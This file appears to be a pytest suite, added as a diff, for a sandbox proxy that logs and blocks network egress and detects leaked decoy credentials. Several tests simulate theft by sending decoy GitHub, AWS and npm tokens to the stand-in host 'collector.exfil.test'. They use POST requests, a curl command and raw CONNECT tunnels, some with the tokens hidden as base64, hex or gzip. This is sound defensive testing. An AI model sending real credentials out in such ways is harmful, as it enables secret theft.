@@ -1,0 +1,507 @@
+"""The logging proxy as a real subprocess, driven by real clients on loopback."""
+
+from __future__ import annotations
+
+import base64
+import gzip
+import json
+import os
+import secrets
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+import requests
+
+from cujo_action.decoys import Decoy, make_decoys
+from cujo_action.proxy import (
+    SYSTEM_CA,
+    DecoySpec,
+    ProxyConfig,
+    ProxyError,
+    ProxyHandle,
+    decide,
+    egress_from_record,
+    egress_record,
+    host_allowed,
+    read_egress_log,
+    request_size,
+    split_label,
+    start_proxy,
+    write_ca_bundle,
+)
+from cujo_action.schema import REGISTRY_HOSTS
+
+LABELS = ["install/install", "detonation/import", "tests/test"]
+# A decoy whose url encoding differs from its plain form.
+SLASHY = Decoy("SLASHY", "sk+live/" + secrets.token_hex(12) + "==", None, None)
+SINK = "collector.exfil.test"
+
+
+# --------------------------------------------------------------------------- fixtures
+
+
+class Upstream(ThreadingHTTPServer):
+    """A loopback HTTP server that records what reaches it."""
+
+    def __init__(self) -> None:
+        self.seen: list[str] = []
+        super().__init__(("127.0.0.1", 0), UpstreamHandler)
+
+
+class UpstreamHandler(BaseHTTPRequestHandler):
+    server: Upstream
+
+    def do_GET(self) -> None:
+        self.server.seen.append(self.path)
+        body = b"from upstream"
+        self.send_response(200)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@dataclass
+class Proxy:
+    handle: ProxyHandle
+    config: ProxyConfig
+    decoys: tuple[Decoy, ...]
+    bundle: Path
+    upstream: Upstream
+
+    def url(self, label: str = LABELS[0]) -> str:
+        return f"http://127.0.0.1:{self.handle.ports[label]}"
+
+    def proxies(self, label: str = LABELS[0]) -> dict[str, str]:
+        return {"http": self.url(label), "https": self.url(label)}
+
+    def decoy(self, name: str) -> Decoy:
+        return next(d for d in (*self.decoys, SLASHY) if d.name == name)
+
+    def records(self, pred: Callable[[dict[str, Any]], bool]) -> list[dict[str, Any]]:
+        return [r for r in read_egress_log(self.config.log_path).records if pred(r)]
+
+    def wait_records(
+        self, pred: Callable[[dict[str, Any]], bool], timeout: float = 15
+    ) -> list[dict[str, Any]]:
+        """Poll the log until a record matches, for lines written after a client is done."""
+        deadline = time.monotonic() + timeout
+        while not (found := self.records(pred)):
+            assert self.handle.alive(), self.handle.stderr_path.read_text()
+            if time.monotonic() > deadline:
+                raise AssertionError(f"no matching record in {self.config.log_path}")
+            time.sleep(0.02)
+        return found
+
+
+def make_config(tmp: Path, decoys: tuple[Decoy, ...], **extra: Any) -> ProxyConfig:
+    return ProxyConfig(
+        labels=extra.pop("labels", LABELS),
+        confdir=tmp / "confdir",
+        allow_hosts=extra.pop("allow_hosts", [*REGISTRY_HOSTS, "localhost"]),
+        decoys=[DecoySpec(name=d.name, value=d.value) for d in (*decoys, SLASHY)],
+        log_path=tmp / "egress.jsonl",
+        ready_path=tmp / "ready.json",
+        **extra,
+    )
+
+
+@pytest.fixture(scope="module")
+def proxy(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Proxy]:
+    tmp = tmp_path_factory.mktemp("proxy")
+    decoys = make_decoys()
+    config = make_config(tmp, decoys)
+    upstream = Upstream()
+    thread = threading.Thread(target=upstream.serve_forever, daemon=True)
+    thread.start()
+    handle = start_proxy(config)
+    try:
+        bundle = write_ca_bundle(handle.ca_cert, tmp / "bundle.pem")
+        yield Proxy(handle, config, decoys, bundle, upstream)
+    finally:
+        handle.stop()
+        upstream.shutdown()
+        upstream.server_close()
+        thread.join()
+
+
+def session() -> requests.Session:
+    s = requests.Session()
+    s.trust_env = False  # the machine's CA and proxy variables must not leak in
+    return s
+
+
+def tag() -> str:
+    return "t" + secrets.token_hex(6)
+
+
+def connect(proxy: Proxy, target: str, headers: str = "") -> socket.socket:
+    sock = socket.create_connection(("127.0.0.1", proxy.handle.ports[LABELS[0]]), timeout=10)
+    sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n{headers}\r\n".encode())
+    assert sock.recv(4096).startswith(b"HTTP/1.1 200")
+    return sock
+
+
+def child_env(drop_prefixes: tuple[str, ...] = ()) -> dict[str, str]:
+    """Return the environment minus proxy settings and the given variable prefixes."""
+    proxy_vars = {"http_proxy", "https_proxy", "all_proxy", "no_proxy"}
+    return {
+        k: v
+        for k, v in os.environ.items()
+        if k.lower() not in proxy_vars and not k.startswith(drop_prefixes)
+    }
+
+
+# --------------------------------------------------------------------------- pure parts
+
+
+def test_hosts_match_exactly_or_by_subdomain_glob() -> None:
+    allow = ["pypi.org", "*.example.com"]
+    assert host_allowed("pypi.org", allow)
+    assert host_allowed("PyPI.org.", allow)
+    assert host_allowed("cdn.example.com", allow)
+    assert host_allowed("a.b.example.com", allow)
+    assert not host_allowed("example.com", allow)
+    assert not host_allowed("evilpypi.org", allow)
+    assert not host_allowed("pypi.org.exfil.test", allow)
+    assert not host_allowed("badexample.com", allow)
+    assert not host_allowed("", allow)
+    assert decide("files.pythonhosted.org", REGISTRY_HOSTS) == "forwarded"
+    assert decide(SINK, REGISTRY_HOSTS) == "sunk"
+
+
+def test_labels_must_name_a_check_and_a_phase(tmp_path: Path) -> None:
+    assert split_label("detonation/import") == ("detonation", "import")
+    for bad in ("install", "install/", "nope/install", "install/nope", "a/b/c"):
+        with pytest.raises(ValueError, match="check/phase"):
+            split_label(bad)
+    with pytest.raises(ValueError, match="repeat"):
+        make_config(tmp_path, (), labels=["tests/test", "tests/test"])
+
+
+def test_request_size_counts_line_headers_and_body() -> None:
+    headers = [(b"Host", b"a.test"), (b"X", b"yz")]
+    # "GET / HTTP/1.1\r\n" + "Host: a.test\r\n" + "X: yz\r\n" + "\r\n" + 5 body bytes
+    assert request_size("GET", "/", "HTTP/1.1", headers, 5) == 16 + 14 + 7 + 2 + 5
+
+
+def test_records_become_report_egress_items() -> None:
+    record = egress_record(
+        ts=1.0,
+        label="detonation/import",
+        host=SINK,
+        port=443,
+        method="POST",
+        url="https://" + SINK + "/" + "x" * 5000,
+        bytes_out=10,
+        action="sunk",
+        decoy_seen=["GITHUB_TOKEN"],
+        decoy_where=["body:base64"],
+    )
+    egress = egress_from_record(record, "detonation:egress:1")
+    assert egress.phase == "import"
+    assert egress.decoy_where == ["body:base64"]
+    assert len(egress.url) <= 2000
+
+
+# --------------------------------------------------------------------------- sinking
+
+
+def test_https_request_to_a_sink_host_is_answered_and_logged_with_decoys(proxy: Proxy) -> None:
+    gh, aws, slashy = (proxy.decoy(n) for n in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SLASHY"))
+    path = f"/{tag()}"
+    body = json.dumps({"t": gh.value.encode().hex()}).encode()
+    with session() as s:
+        resp = s.post(
+            f"https://{SINK}{path}?k={quote(slashy.value, safe='')}",
+            data=body,
+            headers={"Authorization": "Basic " + base64.b64encode(f"u:{aws.value}".encode()).decode()},
+            proxies=proxy.proxies(),
+            verify=str(proxy.bundle),
+            timeout=10,
+        )
+    assert (resp.status_code, resp.content) == (200, b"")
+    # The request hook writes the line before the answer goes out: no waiting needed.
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert rec["host"] == SINK
+    assert rec["port"] == 443
+    assert rec["method"] == "POST"
+    assert rec["url"].startswith(f"https://{SINK}{path}?k=")
+    assert rec["action"] == "sunk"
+    assert rec["bytes_out"] > len(body) + len(path)
+    assert set(rec["decoy_seen"]) == {"GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SLASHY"}
+    assert {"url:url", "header:base64", "body:hex"} <= set(rec["decoy_where"])
+    assert (rec["label"], rec["check"], rec["phase"]) == ("install/install", "install", "install")
+
+
+def test_plain_http_gzip_body_is_decoded_before_scanning(proxy: Proxy) -> None:
+    npm = proxy.decoy("NPM_TOKEN")
+    path = f"/{tag()}"
+    raw = gzip.compress(json.dumps({"npmrc": npm.value}).encode())
+    assert npm.value.encode() not in raw
+    with session() as s:
+        resp = s.post(
+            f"http://{SINK}{path}",
+            data=raw,
+            headers={"Content-Encoding": "gzip"},
+            proxies=proxy.proxies(),
+            timeout=10,
+        )
+    assert (resp.status_code, resp.content) == (200, b"")
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert (rec["port"], rec["action"], rec["decoy_seen"]) == (80, "sunk", ["NPM_TOKEN"])
+    assert rec["decoy_where"] == ["body:plain"]
+
+
+def test_base64_of_a_json_dump_is_found_in_the_body(proxy: Proxy) -> None:
+    decoys = proxy.decoys
+    path = f"/{tag()}"
+    blob = base64.b64encode(json.dumps({"env": {d.name: d.value for d in decoys}}).encode())
+    with session() as s:
+        s.put(f"https://{SINK}{path}", data=blob, proxies=proxy.proxies(), verify=str(proxy.bundle))
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert set(rec["decoy_seen"]) == {d.name for d in decoys}
+    assert rec["decoy_where"] == ["body:base64"]
+
+
+def test_a_sunk_host_is_never_contacted(proxy: Proxy) -> None:
+    # 127.0.0.1 is not allowed, so the real server there must see nothing.
+    path = f"/{tag()}"
+    url = f"http://127.0.0.1:{proxy.upstream.server_port}{path}"
+    with session() as s:
+        resp = s.get(url, proxies=proxy.proxies(), timeout=10)
+    assert (resp.status_code, resp.content) == (200, b"")
+    assert proxy.upstream.seen == []
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert rec["action"] == "sunk"
+
+
+def test_an_allowed_host_is_forwarded(proxy: Proxy) -> None:
+    path = f"/{tag()}"
+    url = f"http://localhost:{proxy.upstream.server_port}{path}"
+    with session() as s:
+        resp = s.get(url, proxies=proxy.proxies(), timeout=10)
+    assert (resp.status_code, resp.content) == (200, b"from upstream")
+    assert path in proxy.upstream.seen
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert (rec["host"], rec["action"]) == ("localhost", "forwarded")
+
+
+@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
+def test_curl_over_https_trusting_the_bundle(proxy: Proxy) -> None:
+    gho = proxy.decoy("GH_OAUTH_TOKEN")
+    path = f"/{tag()}"
+    env = child_env() | {"CURL_CA_BUNDLE": str(proxy.bundle)}
+    out = subprocess.run(
+        ["curl", "-sS", "--proxy", proxy.url(), "-o", "/dev/null", "-w", "%{http_code}"]
+        + ["-H", f"X-Token: {gho.value}", f"https://{SINK}{path}"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=30,
+    )
+    assert (out.returncode, out.stdout) == (0, "200"), out.stderr
+    (rec,) = proxy.records(lambda r: path in r["url"])
+    assert (rec["method"], rec["action"]) == ("GET", "sunk")
+    assert (rec["decoy_seen"], rec["decoy_where"]) == (["GH_OAUTH_TOKEN"], ["header:plain"])
+
+
+# --------------------------------------------------------------------------- tunnels
+
+
+def test_a_client_that_refuses_the_ca_still_leaves_a_connect_line(proxy: Proxy) -> None:
+    host = f"{tag()}.exfil.test"
+    with session() as s, pytest.raises(requests.exceptions.SSLError):
+        s.get(f"https://{host}/", proxies=proxy.proxies(), verify=str(SYSTEM_CA), timeout=10)
+    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
+    assert (rec["method"], rec["port"], rec["action"]) == ("CONNECT", 443, "refused")
+    assert rec["url"] == f"{host}:443"
+    assert rec["bytes_out"] > 0
+
+
+def test_raw_tcp_through_connect_is_logged_scanned_and_closed(proxy: Proxy) -> None:
+    host = f"{tag()}.exfil.test"
+    gh = proxy.decoy("GITHUB_TOKEN")
+    payload = b"\x00\x01\x02" + gh.value.encode().hex().encode()
+    with connect(proxy, f"{host}:2525") as sock:
+        sock.sendall(payload)
+        # The proxy closes the tunnel after reading: no upstream ever answers.
+        assert sock.recv(4096) == b""
+    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
+    assert (rec["method"], rec["port"], rec["action"]) == ("CONNECT", 2525, "refused")
+    assert (rec["decoy_seen"], rec["decoy_where"]) == (["GITHUB_TOKEN"], ["tcp:hex"])
+    assert rec["bytes_out"] >= len(payload)
+
+
+def test_text_that_is_not_http_through_connect_is_scanned_when_it_closes(proxy: Proxy) -> None:
+    host = f"{tag()}.exfil.test"
+    npm = proxy.decoy("NPM_TOKEN")
+    with connect(proxy, f"{host}:25") as sock:
+        sock.sendall(b"EHLO " + npm.value.encode() + b"\r\n")
+        sock.shutdown(socket.SHUT_WR)
+        assert sock.recv(4096) == b""
+    (rec,) = proxy.wait_records(lambda r: r["host"] == host)
+    assert (rec["method"], rec["action"], rec["decoy_seen"]) == ("CONNECT", "refused", ["NPM_TOKEN"])
+
+
+def test_a_decoy_in_the_connect_request_itself_is_logged(proxy: Proxy) -> None:
+    host = f"{tag()}.exfil.test"
+    aws = proxy.decoy("AWS_ACCESS_KEY_ID")
+    auth = base64.b64encode(f"{aws.value}:x".encode()).decode()
+    with connect(proxy, f"{host}:443", f"Proxy-Authorization: Basic {auth}\r\n"):
+        (rec,) = proxy.wait_records(lambda r: r["host"] == host)
+    assert (rec["method"], rec["action"]) == ("CONNECT", "sunk")
+    assert (rec["decoy_seen"], rec["decoy_where"]) == (["AWS_ACCESS_KEY_ID"], ["header:base64"])
+
+
+def test_each_port_attributes_its_label(proxy: Proxy) -> None:
+    paths = {label: f"/{tag()}" for label in LABELS}
+    with session() as s:
+        for label, path in paths.items():
+            s.get(f"http://{SINK}{path}", proxies=proxy.proxies(label), timeout=10)
+    assert len(set(proxy.handle.ports.values())) == len(LABELS)
+    for label, path in paths.items():
+        (rec,) = proxy.records(lambda r, p=path: p in r["url"])
+        assert rec["label"] == label
+        assert f"{rec['check']}/{rec['phase']}" == label
+
+
+# --------------------------------------------------------------------------- registries
+
+
+@pytest.mark.slow
+def test_pip_download_from_pypi_is_forwarded(proxy: Proxy, tmp_path: Path) -> None:
+    label = "detonation/import"
+    env = child_env(drop_prefixes=("PIP_",)) | {
+        # /etc/pip.conf and PIP_FIND_LINKS point at local wheels: ignore both.
+        "PIP_CONFIG_FILE": os.devnull,
+        "PIP_DISABLE_PIP_VERSION_CHECK": "1",
+        "HTTPS_PROXY": proxy.url(label),
+        "PIP_CERT": str(proxy.bundle),
+        "REQUESTS_CA_BUNDLE": str(proxy.bundle),
+        "SSL_CERT_FILE": str(proxy.bundle),
+    }
+    before = len(proxy.records(lambda r: r["label"] == label))
+    out = subprocess.run(
+        [sys.executable, "-m", "pip", "download", "--no-deps", "--no-cache-dir"]
+        + ["-d", str(tmp_path), "six==1.16.0", "--index-url", "https://pypi.org/simple"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert out.returncode == 0, out.stdout + out.stderr
+    assert [p.name for p in tmp_path.iterdir()] == ["six-1.16.0-py2.py3-none-any.whl"]
+    recs = proxy.records(lambda r: r["label"] == label)[before:]
+    hosts = {(r["host"], r["action"]) for r in recs}
+    assert ("pypi.org", "forwarded") in hosts
+    assert ("files.pythonhosted.org", "forwarded") in hosts
+    assert all(r["decoy_seen"] == [] for r in recs)
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(shutil.which("npm") is None, reason="npm is not installed")
+def test_npm_view_from_the_registry_is_forwarded(proxy: Proxy, tmp_path: Path) -> None:
+    label = "tests/test"
+    (tmp_path / "npmrc").write_text("")
+    env = child_env(drop_prefixes=("npm_config_", "NPM_CONFIG_")) | {
+        "https_proxy": proxy.url(label),
+        "npm_config_https_proxy": proxy.url(label),
+        "npm_config_cafile": str(proxy.bundle),
+        "NODE_EXTRA_CA_CERTS": str(proxy.bundle),
+        "npm_config_cache": str(tmp_path / "cache"),
+        "npm_config_userconfig": str(tmp_path / "npmrc"),
+        "npm_config_update_notifier": "false",
+    }
+    before = len(proxy.records(lambda r: r["label"] == label))
+    out = subprocess.run(
+        ["npm", "view", "is-number@7.0.0", "version"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=tmp_path,
+    )
+    assert (out.returncode, out.stdout.strip()) == (0, "7.0.0"), out.stderr
+    recs = proxy.records(lambda r: r["label"] == label)[before:]
+    assert ("registry.npmjs.org", "forwarded") in {(r["host"], r["action"]) for r in recs}
+
+
+# --------------------------------------------------------------------------- lifecycle
+
+
+def test_lines_survive_a_sigkill_and_a_cut_last_line_is_reported(tmp_path: Path) -> None:
+    decoys = make_decoys()
+    config = make_config(tmp_path, decoys, labels=["install/install"])
+    handle = start_proxy(config)
+    try:
+        with session() as s:
+            for i in range(3):
+                s.get(f"http://{SINK}/kill{i}", proxies={"http": f"http://127.0.0.1:{handle.ports['install/install']}"})
+    finally:
+        os.kill(handle.pid, signal.SIGKILL)
+        handle.process.wait()
+    assert not handle.alive()
+    log = read_egress_log(config.log_path)
+    assert [r["url"] for r in log.records] == [f"http://{SINK}/kill{i}" for i in range(3)]
+    assert log.bad_lines == 0
+
+    # A proxy killed in the middle of a write leaves a cut line behind.
+    with open(config.log_path, "ab") as fh:
+        fh.write(config.log_path.read_bytes().splitlines()[0][:40])
+    log = read_egress_log(config.log_path, labels={"install/install"})
+    assert (len(log.records), log.bad_lines) == (3, 1)
+    assert read_egress_log(config.log_path, labels={"tests/test"}).records == []
+
+
+def test_stop_is_graceful_and_logs_tunnels_still_open(tmp_path: Path) -> None:
+    config = make_config(tmp_path, make_decoys(), labels=["smoke/smoke"])
+    handle = start_proxy(config)
+    port = handle.ports["smoke/smoke"]
+    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+        sock.sendall(b"CONNECT idle.exfil.test:443 HTTP/1.1\r\nHost: idle.exfil.test\r\n\r\n")
+        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
+        assert handle.stop() == 0
+    (rec,) = read_egress_log(config.log_path).records
+    assert (rec["host"], rec["method"], rec["action"]) == ("idle.exfil.test", "CONNECT", "refused")
+    assert rec["label"] == "smoke/smoke"
+
+
+def test_start_refuses_a_used_confdir_and_reports_a_proxy_that_dies(tmp_path: Path) -> None:
+    used = tmp_path / "used"
+    (used / "confdir").mkdir(parents=True)
+    (used / "confdir" / "mitmproxy-ca.pem").write_text("old")
+    with pytest.raises(ProxyError, match="not empty"):
+        start_proxy(make_config(used, ()))
+
+    with socket.socket() as taken:
+        taken.bind(("127.0.0.1", 0))
+        taken.listen()
+        port = taken.getsockname()[1]
+        config = make_config(tmp_path, (), labels=["install/install"], ports={"install/install": port})
+        with pytest.raises(ProxyError, match=f"exited with 1.*{port}"):
+            start_proxy(config, timeout=30)
+
+
+def test_the_ca_bundle_is_the_system_cas_then_the_run_ca(tmp_path: Path) -> None:
+    ca = tmp_path / "ca.pem"
+    ca.write_text("-----BEGIN CERTIFICATE-----\nrun\n-----END CERTIFICATE-----\n")
+    bundle = write_ca_bundle(ca, tmp_path / "out" / "bundle.pem")
+    text = bundle.read_text()
+    assert text.startswith(SYSTEM_CA.read_text().rstrip("\n"))
+    assert text.endswith(ca.read_text())
+    assert bundle.stat().st_mode & 0o777 == 0o644
